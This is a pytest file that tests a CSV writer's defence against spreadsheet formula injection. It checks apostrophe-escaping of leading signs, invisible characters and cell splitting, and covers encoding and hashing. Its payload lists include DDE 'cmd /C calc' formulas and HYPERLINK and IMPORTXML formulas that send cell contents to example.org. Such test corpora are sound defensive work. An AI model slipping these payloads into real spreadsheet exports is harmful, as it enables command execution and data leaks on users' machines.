"""Cells that no spreadsheet computes, and lines that every reader of CSV takes apart as they were put together."""

from __future__ import annotations

import csv
import io
import re
from datetime import UTC, date, datetime, time
from decimal import Decimal
from hashlib import sha256
from uuid import UUID

import pytest

from rls_module.outcomes import cells

SIGNS = "=+-@\uff1d\uff0b\uff0d\uff20\ufe62\ufe63\ufe66\ufe6b\u2212\t\r\n\0"  # then full-width, small, minus
BEFORE = ("", " ", "   ", "\u00a0", "\u3000", "\ufeff", "\u200b", "\u2060 ", "\u202e", "\x1f", "\x0b ", " \ufeff ")
FORMULAS = [
    *(f"{sign}1+1" for sign in SIGNS),
    *(f"{before}=1+1" for before in BEFORE),
    *(f"{before}\uff1d1+1" for before in BEFORE),
    '=HYPERLINK("http://example.org?"&A1,"open")',
    "=cmd|' /C calc'!A0",
    "=1+1;2",
    "+1-555-0100",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=IMPORTXML(CONCAT("http://example.org?v=",CONCATENATE(A2:E2)),"//a")',
    '=DDE("cmd";"/C calc";"1")',
    '=WEBSERVICE("http://example.org")',
    "=2,5",
    '="quoted"',
    "-",
    "=",
    "@someone",
    "\u22125",
    "+",
    "- better, worse at night",
    "=รวม(1)",
    "= 1",
    "==1",
    "-=1",
    "+=1",
    "@=1",
    "\0=1",
]
# What stands behind a semicolon, a tab or a line break: what was typed -> what is written.
WITHIN = {
    "\t=1": "'\t'=1",
    "\r\n=1": "'\r\n'=1",
    "=1\r\n+1": "'=1\r\n'+1",
    "x;=1+1": "x;'=1+1",
    "x; =1+1": "x;' =1+1",
    'x;"=1+1': "x;'\"=1+1",
    'x;" \u200b""=1+1': 'x;\'" \u200b""=1+1',
    "x\t@SUM(1)": "x\t'@SUM(1)",
    "x\n-2+3": "x\n'-2+3",
    "x;\uff1d1": "x;'\uff1d1",
    "x;;=1": "x;;'=1",
    "x;\0=1": "x;'\0=1",
    "a;b;=cmd|' /C calc'!A0;c": "a;b;'=cmd|' /C calc'!A0;c",
    "=1;=2;=3": "'=1;'=2;'=3",
    "better:\r\n- less pull\r\n- sleeps": "better:\r\n'- less pull\r\n'- sleeps",
}
HARMLESS = [
    "",
    " ",
    "Less pull in the calf",
    "a=1",
    "1+1",
    "'=1",
    '"=1"',
    "5 - 6 nights",
    "L+R",
    "name@example.org",
    "two\nlines",
    "two\r\nlines, and a comma",
    'she said "no"',
    "ñandú, ½, 漢字, 🦵",
    "\u2019=1",
    "( =1 )",
    "_=1",
    "left; right",
    "left; 'right",
    "5-6 nights;\ttwice;\r\n",
    "one, -2, =3",
]


def read(text: str) -> list[list[str]]:
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")))


def written(*rows: object, columns: tuple[str, ...] = ("a", "b", "c")) -> str:
    return "".join(cells.lines(cells.Sheet("t", columns, rows)))


def test_the_corpus_is_large_enough(record_property):
    assert len({*FORMULAS, *WITHIN}) >= 60
    record_property("payloads of spreadsheets", len({*FORMULAS, *WITHIN}))


@pytest.mark.parametrize("text", sorted(set(FORMULAS)), ids=ascii)
def test_what_a_spreadsheet_would_compute_gets_an_apostrophe_and_is_read_back_whole(text):
    """PV-7: leading signs, also after spaces, marks and invisible characters, and full-width."""
    [_header, row] = read(written(("before", text, "after")))
    assert row == ["before", f"'{text}", "after"]


@pytest.mark.parametrize("text", WITHIN, ids=ascii)
def test_a_spreadsheet_that_splits_elsewhere_finds_no_formula_either(text):
    """PV-7: at semicolons, tabs or line ends, where our quotation marks stand within a cell and mean nothing."""
    lines = written(("before", text, "after"))
    assert next(row for row in read(lines)[1:]) == ["before", WITHIN[text], "after"]
    for cell in re.split("[;\t\r\n]", lines.removeprefix("\ufeff")):
        assert cell.strip('" \0\u200b')[:1] not in set(SIGNS) - {"\t"}


@pytest.mark.parametrize("text", HARMLESS, ids=ascii)
def test_what_is_no_formula_stays_as_it_was_typed(text):
    """PV-7: quoting per RFC 4180 carries commas, quotation marks and line ends."""
    [_header, row] = read(written(("before", text, "after")))
    assert row == ["before", text, "after"]


def test_numbers_are_numbers_and_texts_are_quoted():
    """PV-7: a negative number is no formula, and one that was typed as text is no number."""
    line = written((-5, Decimal("-0.30"), -2.5)).split("\r\n")[1]
    assert line == "-5,-0.30,-2.5"
    assert written(("-5", "12", None)).split("\r\n")[1] == '"\'-5","12",""'


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        (True, 1),
        (False, 0),
        (None, None),
        (date(2026, 9, 7), "2026-09-07"),
        (time(9, 30), "09:30:00"),
        (datetime(2026, 9, 7, 14, tzinfo=UTC), "2026-09-07T14:00:00+00:00"),
        (UUID(int=1), "00000000-0000-0000-0000-000000000001"),
        (["b", "a"], '["b", "a"]'),
        ({"b": 1, "a": None}, '{"a": null, "b": 1}'),
        ([], ""),
        ({}, ""),
    ],
)
def test_every_kind_of_value_is_one_cell(value, cell):
    assert cells.plain(value) == cell


def test_a_value_of_no_known_kind_is_refused():
    with pytest.raises(TypeError, match="object"):
        cells.plain(object())


def test_lines_end_as_the_rfc_says_and_the_file_begins_with_a_mark():
    """PV-7: UTF-8 with its mark, so that a spreadsheet reads the letters; a column's name is a cell too."""
    content = b"".join(cells.encoded(cells.Sheet("t", ("a", "=b"), [("ñ", "two\nlines")])))
    assert content == '\ufeff"a","\'=b"\r\n"ñ","two\nlines"\r\n'.encode()


def test_a_lone_surrogate_breaks_no_file():
    assert b"\\ud800" in b"".join(cells.encoded(cells.Sheet("t", ("a",), [("\ud800",)])))


def test_each_file_is_counted_and_hashed_as_it_is_written():
    files = {}

    def put(name, pieces):
        files[name] = b"".join(pieces)

    tables = cells.write([cells.Sheet("t", ("a",), [(1,), (2,)]), cells.Sheet("u", ("a",), [])], put)
    assert set(files) == {"t.csv", "u.csv"}
    assert tables == {
        "t": {"rows": 2, "sha256": sha256(files["t.csv"]).hexdigest()},
        "u": {"rows": 0, "sha256": sha256(files["u.csv"]).hexdigest()},
    }
